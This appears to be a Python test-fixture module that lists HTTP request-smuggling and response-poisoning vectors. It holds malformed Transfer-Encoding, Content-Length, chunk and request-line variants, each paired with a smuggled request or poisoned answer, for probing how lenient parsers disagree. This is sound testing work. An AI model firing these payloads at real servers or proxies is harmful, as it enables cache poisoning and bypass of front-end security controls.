"""Messages on whose end lenient readers disagree, by their oddity.

`SMUGGLED` is the request that an attacker tries to smuggle, `POISON` the answer.
"""

from __future__ import annotations

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: test\r\nX-Smuggled: yes\r\n\r\n"
POISON = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nX-Answer: poison\r\n\r\npoisoned"
HEX = b"%x" % len(SMUGGLED)


def post(fields: bytes, body: bytes, version: bytes = b"1.1") -> bytes:
    return b"POST /vector HTTP/%b\r\nHost: test\r\n%b\r\n%b" % (version, fields, body)


CODINGS = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "upper case": b"Transfer-Encoding: CHUNKED\r\n",
    "space after": b"Transfer-Encoding: chunked \r\n",
    "tab before": b"Transfer-Encoding:\tchunked\r\n",
    "tab after": b"Transfer-Encoding: chunked\t\r\n",
    "no space": b"Transfer-Encoding:chunked\r\n",
    "space before colon": b"Transfer-Encoding : chunked\r\n",
    "tab before colon": b"Transfer-Encoding\t: chunked\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "form feed": b"Transfer-Encoding: \x0cchunked\r\n",
    "NUL": b"Transfer-Encoding: chunked\x00\r\n",
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded after": b"Transfer-Encoding: chunked\r\n \r\n",
    "bare LF": b"X: y\nTransfer-Encoding: chunked\r\n",
    "bare CR": b"X: y\rTransfer-Encoding: chunked\r\n",
    "LF before": b"\nTransfer-Encoding: chunked\r\n",
    "leading space": b" Transfer-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n",
    "unknown": b"Transfer-Encoding: xchunked\r\n",
    "cow": b"Transfer-Encoding: cow\r\n",
    "identity": b"Transfer-Encoding: identity\r\n",
    "identity, chunked": b"Transfer-Encoding: identity, chunked\r\n",
    "chunked, identity": b"Transfer-Encoding: chunked, identity\r\n",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked\r\n",
    "empty member": b"Transfer-Encoding: , chunked\r\n",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "twice, other": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "empty, then chunked": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n",
    "empty": b"Transfer-Encoding:\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "parameter": b"Transfer-Encoding: chunked;q=1\r\n",
    "non-ASCII": b"Transfer-Encoding: \xa0chunked\r\n",
    "dotless": b"Transfer-Encoding: chun\xe7ed\r\n",
    "hop-by-hop": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
    "hop-by-hop, close": b"Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
    "no colon": b"Transfer-Encoding chunked\r\n",
    "quote in name": b'"Transfer-Encoding": chunked\r\n',
}
LENGTHS = {
    "plus": b"Content-Length: +%d\r\n",
    "minus": b"Content-Length: -%d\r\n",
    "leading zero": b"Content-Length: 0%d\r\n",
    "hexadecimal": b"Content-Length: 0x%x\r\n",
    "fraction": b"Content-Length: %d.0\r\n",
    "exponent": b"Content-Length: %de0\r\n",
    "underscore": b"Content-Length: 0_%d\r\n",
    "list": b"Content-Length: %d, %d\r\n",
    "list of others": b"Content-Length: %d, 0\r\n",
    "list of others first": b"Content-Length: 0, %d\r\n",
    "semicolon": b"Content-Length: %d;\r\n",
    "quoted": b'Content-Length: "%d"\r\n',
    "inner space": b"Content-Length: 0 %d\r\n",
    "space before colon": b"Content-Length : %d\r\n",
    "folded": b"Content-Length:\r\n %d\r\n",
    "twice": b"Content-Length: %d\r\nContent-Length: %d\r\n",
    "twice, other": b"Content-Length: 0\r\nContent-Length: %d\r\n",
    "twice, other last": b"Content-Length: %d\r\nContent-Length: 0\r\n",
    "overflow of 64 bits": b"Content-Length: 1844674407370955%d\r\n",
    "overflow of 32 bits": b"Content-Length: 42949673%d\r\n",
    "NUL": b"Content-Length: %d\x00\r\n",
    "vertical tab": b"Content-Length:\x0b%d\r\n",
    "non-ASCII digit": b"Content-Length: \xb2%d\r\n",
    "leading space": b" Content-Length: %d\r\n",
    "underscore in name": b"Content_Length: %d\r\n",
    "hop-by-hop": b"Connection: Content-Length\r\nContent-Length: %d\r\n",
    "hop-by-hop, keep": b"Connection: keep-alive, Content-Length\r\nContent-Length: %d\r\n",
    "empty": b"Content-Length:\r\n",
    "empty, then one": b"Content-Length:\r\nContent-Length: %d\r\n",
    "none": b"",
    "zero": b"Content-Length: 0\r\n",
    "plain": b"Content-Length: %d\r\n",
}
WITH_BODY = b" /vector HTTP/1.1\r\nHost: test\r\nContent-Length: %d\r\n\r\n%b" % (len(SMUGGLED), SMUGGLED)
CHUNKED = b"Transfer-Encoding: chunked\r\n"
CHUNKS = {
    "size, leading zeros": b"000%b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, 0x": b"0x%b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, plus": b"+%b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, space before": b" %b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, space after": b"%b \r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, tab after": b"%b\t\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, overflow": b"1000000000000000%b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, bare LF": b"%b\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, bare CR": b"%b\rx\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, two CR": b"%b\r\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "size, empty": b"\r\n%b\r\n0\r\n\r\n" % SMUGGLED,
    "size, negative": b"-1\r\n%b\r\n0\r\n\r\n" % SMUGGLED,
    "extension": b"%b;a=b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "extension, empty": b"%b;\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "extension, LF": b"2;\nxx\r\n%b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED),
    "extension, LF in name": b"5;a\n0\r\n\r\n%b" % SMUGGLED,
    "extension, quoted": b'5;a="\r\n0\r\n\r\n%b' % SMUGGLED,
    "extension, CR": b"5;a\rb\r\nhello\r\n0\r\n\r\n",
    "extension, NUL": b"5;a\x00b\r\nhello\r\n0\r\n\r\n",
    "data too long": b"5\r\nhelloworld\r\n0\r\n\r\n" + SMUGGLED,
    "data, no end": b"5\r\nhello0\r\n\r\n" + SMUGGLED,
    "data, LF": b"5\r\nhello\n0\r\n\r\n" + SMUGGLED,
    "data, two bytes for its end": b"5\r\nhelloXX0\r\n\r\n" + SMUGGLED,
    "data, CR alone": b"5\r\nhello\rX0\r\n\r\n" + SMUGGLED,
    "last, LF": b"0\n\n" + SMUGGLED,
    "last, CR LF LF": b"0\r\n\n" + SMUGGLED,
    "last, LF CR LF": b"0\n\r\n" + SMUGGLED,
    "last, zeros": b"0000\r\n\r\n",
    "last, with extension": b"0;a\r\n\r\n",
    "last, none": b"5\r\nhello\r\n" + SMUGGLED,
    "trailer": b"0\r\nX-Trailer: a\r\n\r\n",
    "trailer, length": b"0\r\nContent-Length: %d\r\n\r\n%b" % (len(SMUGGLED), SMUGGLED),
    "trailer, coding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + SMUGGLED,
    "trailer, mark": b"0\r\nX-Mark: forged\r\n\r\n",
    "trailer, no colon": b"0\r\nGET / HTTP/1.1\r\n\r\n",
    "trailer, folded": b"0\r\nX: a\r\n b\r\n\r\n",
    "trailer, LF": b"0\r\nX: a\n\r\n" + SMUGGLED,
    "trailer, space": b"0\r\n \r\n\r\n" + SMUGGLED,
}
LINES = {
    **{
        f"{method.decode()} with body": method + WITH_BODY for method in (b"GET", b"HEAD", b"DELETE", b"TRACE", b"FROB")
    },
    "LF throughout": b"GET /vector HTTP/1.1\nHost: test\n\n",
    "LF after the line": b"GET /vector HTTP/1.1\nHost: test\r\n\r\n",
    "LF at the end": b"GET /vector HTTP/1.1\r\nHost: test\r\n\n",
    "CR in the line": b"GET /vector\rHTTP/1.1\r\nHost: test\r\n\r\n",
    "two spaces": b"GET  /vector  HTTP/1.1\r\nHost: test\r\n\r\n",
    "tab": b"GET\t/vector\tHTTP/1.1\r\nHost: test\r\n\r\n",
    "space in target": b"GET /vector x HTTP/1.1\r\nHost: test\r\n\r\n",
    "request in target": b"GET /vector HTTP/1.1 /smuggled HTTP/1.1\r\nHost: test\r\n\r\n",
    "NUL in target": b"GET /vec\x00tor HTTP/1.1\r\nHost: test\r\n\r\n",
    "fragment": b"GET /vector#x HTTP/1.1\r\nHost: test\r\n\r\n",
    "LF in target": b"GET /vector\nHTTP/1.1\r\nHost: test\r\n\r\n",
    "no version": b"GET /vector\r\nHost: test\r\n\r\n",
    "version 0.9": b"GET /vector\r\n\r\n" + SMUGGLED,
    "version 1.2": b"GET /vector HTTP/1.2\r\nHost: test\r\n\r\n",
    "version 2.0": b"GET /vector HTTP/2.0\r\nHost: test\r\n\r\n",
    "version 01.1": b"GET /vector HTTP/01.1\r\nHost: test\r\n\r\n",
    "version in lower case": b"GET /vector http/1.1\r\nHost: test\r\n\r\n",
    "space after version": b"GET /vector HTTP/1.1 \r\nHost: test\r\n\r\n",
    "lower case method": b"get /vector HTTP/1.1\r\nHost: test\r\n\r\n",
    "own method": b"FROB /vector HTTP/1.1\r\nHost: test\r\n\r\n",
    "preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
    "CONNECT": b"CONNECT test:80 HTTP/1.1\r\nHost: test:80\r\n\r\n" + SMUGGLED,
    "CONNECT to a path": b"CONNECT /vector HTTP/1.1\r\nHost: test\r\n\r\n" + SMUGGLED,
    "TRACE with body": b"TRACE /vector HTTP/1.1\r\nHost: test\r\nContent-Length: %d\r\n\r\n%b"
    % (len(SMUGGLED), SMUGGLED),
    "GET with body": b"GET /vector HTTP/1.1\r\nHost: test\r\nContent-Length: %d\r\n\r\n%b" % (len(SMUGGLED), SMUGGLED),
    "GET, chunked": b"GET /vector HTTP/1.1\r\nHost: test\r\n%b\r\n%b\r\n%b\r\n0\r\n\r\n" % (CHUNKED, HEX, SMUGGLED),
    "empty lines before": b"\r\n\r\nGET /vector HTTP/1.1\r\nHost: test\r\n\r\n",
    "two hosts": b"GET /vector HTTP/1.1\r\nHost: test\r\nHost: other\r\n\r\n",
    "no host": b"GET /vector HTTP/1.1\r\n\r\n",
    "first field folded": b"GET /vector HTTP/1.1\r\n Host: test\r\n\r\n",
    "no colon": b"GET /vector HTTP/1.1\r\nHost: test\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    "empty name": b"GET /vector HTTP/1.1\r\nHost: test\r\n: x\r\n\r\n",
    "absolute": b"GET http://other/vector HTTP/1.1\r\nHost: test\r\n\r\n",
    "dots": b"GET /a/../vector HTTP/1.1\r\nHost: test\r\n\r\n",
    "mark forged": b"GET /vector HTTP/1.1\r\nHost: test\r\nX-Mark: forged\r\nx-mark: again\r\n\r\n",
    "attempt hop-by-hop": b"GET /vector HTTP/1.1\r\nHost: test\r\nConnection: x-sidecar-attempt\r\n\r\n",
    "host hop-by-hop": b"GET /vector HTTP/1.1\r\nHost: test\r\nConnection: host, content-length\r\n\r\n",
    "expectation, no wait": post(b"Expect: 100-continue\r\nContent-Length: %d\r\n" % len(SMUGGLED), SMUGGLED),
    "expectation, GET": b"GET /vector HTTP/1.1\r\nHost: test\r\nExpect: 100-continue\r\n\r\n" + SMUGGLED,
    "expectation, odd": post(b"Expect: 100-continue, x\r\nContent-Length: %d\r\n" % len(SMUGGLED), SMUGGLED),
    "h2c": b"GET /vector HTTP/1.1\r\nHost: test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + SMUGGLED,
    "websocket, refused": b"GET /vector HTTP/1.1\r\nHost: test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 777\r\n\r\n" + SMUGGLED,
    "websocket with body": b"GET /vector HTTP/1.1\r\nHost: test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nContent-Length: 5\r\n\r\nhello" + SMUGGLED,
    "keep-alive of HTTP/1.0": b"GET /vector HTTP/1.0\r\nHost: test\r\nConnection: keep-alive\r\n\r\n" + SMUGGLED,
    "close, then more": b"GET /vector HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n" + SMUGGLED,
}


def requests() -> dict[str, bytes]:
    """Return every vector for a request, by name."""
    size = len(SMUGGLED)
    found = {f"line: {name}": data for name, data in LINES.items()}
    for name, fields in CODINGS.items():
        chunked = b"%b\r\n%b\r\n0\r\n\r\n" % (HEX, SMUGGLED)
        found[f"coding: {name}"] = post(fields, chunked)
        found[f"coding: {name}; 1.0"] = post(fields + b"Connection: keep-alive\r\n", chunked, b"1.0")
        found[f"coding: {name}; length of all"] = post(
            fields + b"Content-Length: %d\r\n" % (size + 5), b"0\r\n\r\n" + SMUGGLED
        )
        found[f"coding: {name}; length before"] = post(b"Content-Length: 4\r\n" + fields, chunked)
    for name, fields in LENGTHS.items():
        count = fields.count(b"%d") + fields.count(b"%x")
        found[f"length: {name}"] = post(fields % ((size,) * count), SMUGGLED)
    for name, body in CHUNKS.items():
        found[f"chunk: {name}"] = post(CHUNKED, body)
    return found


OK = b"HTTP/1.1 200 OK\r\n"
ANSWERS = {
    **{f"coding: {name}": OK + fields + b"\r\n0\r\n\r\n" + POISON for name, fields in CODINGS.items()},
    **{
        f"coding: {name}; length": OK + fields + b"Content-Length: 5\r\n\r\n0\r\n\r\n" + POISON
        for name, fields in CODINGS.items()
    },
    **{
        f"length: {name}": OK + fields % ((5,) * (fields.count(b"%d") + fields.count(b"%x"))) + b"\r\nhello" + POISON
        for name, fields in LENGTHS.items()
        if name != "none"
    },
    **{f"chunk: {name}": OK + CHUNKED + b"\r\n" + body.replace(SMUGGLED, POISON) for name, body in CHUNKS.items()},
    "LF throughout": b"HTTP/1.1 200 OK\nContent-Length: 5\n\nhello" + POISON,
    "204 with body": b"HTTP/1.1 204 No Content\r\nContent-Length: %d\r\n\r\n%b" % (len(POISON), POISON),
    "204, chunked": b"HTTP/1.1 204 No Content\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + POISON,
    "304 with body": b"HTTP/1.1 304 Not Modified\r\nContent-Length: %d\r\n\r\n%b" % (len(POISON), POISON),
    "205 with body": b"HTTP/1.1 205 Reset Content\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "1xx with length": b"HTTP/1.1 103 Early Hints\r\nContent-Length: %d\r\n\r\n%b" % (len(POISON), POISON),
    "1xx, chunked": b"HTTP/1.1 103 Early Hints\r\nTransfer-Encoding: chunked\r\n\r\n" + POISON,
    "100 unasked": b"HTTP/1.1 100 Continue\r\n\r\n" + OK + b"Content-Length: 5\r\n\r\nhello" + POISON,
    "101 unasked": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n" + POISON,
    "version 1.0, chunked": b"HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + POISON,
    "version 0.9": b"hello\r\n" + POISON,
    "version 2": b"HTTP/2.0 200 OK\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "status 99": b"HTTP/1.1 99 Odd\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "status 600": b"HTTP/1.1 600 Odd\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "status 2000": b"HTTP/1.1 2000 OK\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "no reason": b"HTTP/1.1 200\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "empty lines before": b"\r\n\r\n" + OK + b"Content-Length: 5\r\n\r\nhello" + POISON,
    "first field folded": OK + b" Content-Length: 5\r\n\r\nhello" + POISON,
    "hop-by-hop length": OK + b"Connection: content-length\r\nContent-Length: 5\r\n\r\nhello" + POISON,
    "upgrade in a 200": OK + b"Connection: upgrade\r\nUpgrade: websocket\r\nContent-Length: 5\r\n\r\nhello" + POISON,
}
"""Vectors for answers, by name; each is followed by a poisoned answer."""
